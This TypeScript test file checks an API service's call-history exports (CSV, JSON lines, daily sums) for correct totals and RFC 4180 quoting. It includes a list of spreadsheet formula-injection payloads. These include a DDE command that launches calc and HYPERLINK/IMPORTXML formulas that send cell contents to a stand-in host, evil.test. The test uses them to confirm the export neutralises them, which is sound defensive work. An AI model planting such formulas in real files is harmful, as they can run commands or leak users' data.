import assert from 'node:assert/strict'
import { after, describe, test } from 'node:test'

import { present } from '../../test/present.ts'
import { formatCallId } from '../values/call-id.ts'
import { testBooks } from '../../test/books.ts'
import { newCustomer } from '../../test/customer.ts'
import { pastCall, writeHistory } from '../../test/history.ts'
import { addDays } from '../values/days.ts'
import { formatUsd } from '../values/money.ts'
import { dayIn } from '../values/zones/zone-days.ts'
import { csvCell } from './csv.ts'
import { everything, type Filter } from './filter.ts'
import {
  csvHeads,
  listCalls,
  streamCsv,
  streamDaysCsv,
  streamJsonLines,
  totals,
  type ListedCall,
} from './usage.server.ts'

const books = await testBooks()
after(books.close)
const { pool, sql } = books

/** A reader of RFC 4180 and nothing else: lines end with CRLF, quotes are doubled. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  for (let match = field.exec(text); match; match = field.exec(text)) {
    row.push(match[1] === undefined ? present(match[2]) : match[1].replaceAll('""', '"'))
    if (match[3] === '\r\n') {
      rows.push(row)
      row = []
    }
    if (field.lastIndex === text.length) return rows
  }
  throw new Error('not RFC 4180')
}

async function download(accountId: number, filter: Filter) {
  const pieces: string[] = []
  for await (const piece of streamCsv(pool, accountId, filter)) pieces.push(piece)
  const whole = pieces.join('')
  assert.equal(whole.lastIndexOf('\uFEFF', 1), 0, 'begins with a byte order mark')
  const [heads, ...rows] = parseCsv(whole.slice(1))
  assert.deepEqual(heads, csvHeads)
  const records = rows.map((row) => {
    assert.equal(row.length, csvHeads.length)
    return Object.fromEntries(csvHeads.map((head, i) => [head, present(row[i])]))
  })
  return { pieces, records }
}

/** What a spreadsheet would show of a text: the apostrophe before it is a mark, not a letter. */
const shown = (cell: string) => cell.replace(/^'/, '')

/** What must do nothing in a spreadsheet: OWASP's list, its ways around filters, and plain DDE. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=cmd|\u0027 /C calc\u0027!A0',
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '"=1+1"',
  '\u0027=1+1',
  'a",=1+1,"b',
  'x\r\n=1+1',
]

describe('the CSV of the call history', () => {
  test('parses back to exactly the calls and the sums that the page shows', async () => {
    const me = await newCustomer(pool)
    const firstMs = Date.UTC(2026, 9, 1)
    const calls = Array.from({ length: 2_500 }, (_, i) =>
      pastCall({
        accountId: me.accountId,
        keyId: me.keyId,
        costNanos: i * 7_919,
        startedAt: new Date(firstMs + i * 1_000_003),
        model: i % 3 ? 'gpt-a' : 'gpt-b',
        statusCode: i % 11 ? 200 : 502,
        client: i % 5 ? 'cürl "7", or so' : null,
        planNanos: i,
        balanceNanos: i * 7_918,
        firstByteMs: i % 2 ? null : i,
      }),
    )
    await writeHistory(pool, calls)
    const other = await newCustomer(pool)
    const theirs = { accountId: other.accountId, keyId: other.keyId, startedAt: new Date(firstMs) }
    await writeHistory(pool, [pastCall(theirs)])
    for (const filter of [everything, { ...everything, model: 'gpt-b', status: '2xx' }]) {
      const { records, pieces } = await download(me.accountId, filter)
      const sum = await totals(pool, me.accountId, filter)
      assert.equal(records.length, sum.calls)
      assert.ok(pieces.length >= sum.calls / 1_000, 'comes in slices')
      const nanos = records.map((row) => BigInt(present(row['Cost (USD)']).replace('.', '')))
      assert.equal(
        nanos.reduce((a, b) => a + b, 0n),
        BigInt(sum.costNanos),
      )
      const paging = { before: null, after: null, page: 1, rows: 100 }
      const page = await listCalls(pool, me.accountId, filter, paging)
      for (const [i, call] of page.calls.entries()) assertShows(present(records[i]), call)
      assert.deepEqual(
        records.map((row) => present(row['Call'])),
        records
          .map((row) => present(row['Call']))
          .sort()
          .reverse(),
      )
    }
  })

  function assertShows(row: Record<string, string>, call: ListedCall) {
    assert.equal(row['Call'], formatCallId(call.id))
    assert.equal(row['Time (UTC)'], call.startedAt.toISOString())
    assert.deepEqual([row['Model'], row['Status']], [call.model, String(call.statusCode)])
    assert.equal(row['Cost (USD)'], formatUsd(call.costNanos))
    assert.match(present(row['Cost (USD)']), /^\d+\.\d{9}$/)
    assert.equal(row['First byte (ms)'], String(call.firstByteMs ?? ''))
    assert.equal(row['Client'], call.client ?? '')
    assert.equal(row['Tokens in'], String(call.inputTokens))
    assert.equal(row['Other units'], call.otherUnits ?? '')
  }

  test('formulas do nothing, and are still there to be read', async () => {
    const me = await newCustomer(pool)
    const startMs = Date.UTC(2026, 10, 1)
    const calls = payloads.map((client, i) => {
      const startedAt = new Date(startMs - i * 1_000)
      return pastCall({ accountId: me.accountId, keyId: me.keyId, client, startedAt })
    })
    await writeHistory(pool, calls)
    await sql('update api_keys set name = ? where id = ?', [payloads[5], me.keyId])
    const { records } = await download(me.accountId, everything)
    for (const [i, payload] of payloads.entries()) {
      const cell = present(present(records[i])['Client'])
      assert.equal(shown(cell), payload)
      assert.doesNotMatch(cell, /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/)
      assert.doesNotMatch(cell, /^[\s\p{Cc}\p{Cf}"]+[=+\-@\uff1d\uff0b\uff0d\uff20]/u)
      assert.equal(shown(present(present(records[i])['Key'])), payloads[5])
    }
  })

  test('a cell that could break its row is quoted, and a figure is left alone', () => {
    assert.equal(csvCell('a,b'), '"a,b"')
    assert.equal(csvCell('say "hi"'), '"say ""hi"""')
    assert.equal(csvCell('a\nb'), '"a\nb"')
    assert.equal(csvCell(-5), '-5')
    assert.equal(csvCell(null), '')
    assert.equal(csvCell('gpt-4o'), 'gpt-4o')
    assert.equal(csvCell('=A1'), `"'=A1"`)
  })
})

describe('the other files of the call history', () => {
  const readAll = async (pieces: AsyncGenerator<string, void, undefined>) => {
    const read: string[] = []
    for await (const piece of pieces) read.push(piece)
    return read.join('')
  }
  const columnOf = (rows: string[][], head: string) => {
    const [heads = [], ...lines] = rows
    assert.ok(heads.includes(head), head)
    return lines.map((line) => present(line[heads.indexOf(head)]))
  }
  const sum = (texts: string[]) =>
    texts.reduce((all, text) => all + BigInt(text.replace('.', '')), 0n)

  test('lines of JSON have the calls of the CSV, and days have their sums, in a zone', async () => {
    const me = await newCustomer(pool)
    const firstMs = Date.UTC(2026, 9, 1)
    // Twice the rows of a slice, and three days without a call.
    const calls = Array.from({ length: 1_100 }, (_, i) =>
      pastCall({
        accountId: me.accountId,
        keyId: me.keyId,
        costNanos: i * 7_919,
        startedAt: new Date(firstMs + i * 600_000 + (i > 500 ? 3 * 86_400_000 : 0)),
        model: i % 3 ? 'gpt-a' : 'gpt-b',
        client: i % 5 ? 'two\nlines "quoted"' : null,
      }),
    )
    await writeHistory(pool, calls)
    for (const narrowed of [{}, { model: 'gpt-b', from: '2026-10-03' }]) {
      const filter = { ...everything, ...narrowed, zone: 'Asia/Kolkata' }
      const whole = await totals(pool, me.accountId, filter)
      const { records } = await download(me.accountId, filter)
      const lines = (await readAll(streamJsonLines(pool, me.accountId, filter))).split('\n')
      assert.equal(lines.pop(), '', 'each line ends')
      const objects = lines.map((line) => JSON.parse(line) as Record<string, unknown>)
      assert.deepEqual(
        objects.map((call) => [call.id, call.began_at, call.cost_usd, call.client ?? '']),
        records.map((row) => [row['Call'], row['Time (UTC)'], row['Cost (USD)'], row['Client']]),
      )
      assert.deepEqual(objects[0]?.key, { id: me.keyId, name: records[0]?.['Key'] })

      const days = parseCsv((await readAll(streamDaysCsv(pool, me.accountId, filter))).slice(1))
      assert.equal(sum(columnOf(days, 'Cost (USD)')), BigInt(whole.costNanos))
      assert.equal(sum(columnOf(days, 'Calls')), BigInt(whole.calls))
      assert.equal(sum(columnOf(days, 'Tokens in')), BigInt(whole.inputTokens))
      const names = columnOf(days, 'Day (Asia/Kolkata)')
      for (const [i, day] of names.slice(1).entries())
        assert.equal(day, addDays(present(names[i]), 1), 'no day is left out')
      const dayThere = (row: Record<string, string>) =>
        dayIn('Asia/Kolkata', Date.parse(present(row['Time (UTC)'])))
      for (const [i, day] of names.entries()) {
        const listed = records.filter((row) => dayThere(row) === day)
        assert.equal(columnOf(days, 'Calls')[i], String(listed.length), day)
      }
    }
  })

  test('without a call they are empty, and say what they would have had', async () => {
    const { accountId } = await newCustomer(pool)
    assert.equal(await readAll(streamJsonLines(pool, accountId, everything)), '')
    const days = await readAll(streamDaysCsv(pool, accountId, everything))
    assert.match(days, /^\uFEFFDay \(UTC\),Calls,.*\r\n$/)
  })
})
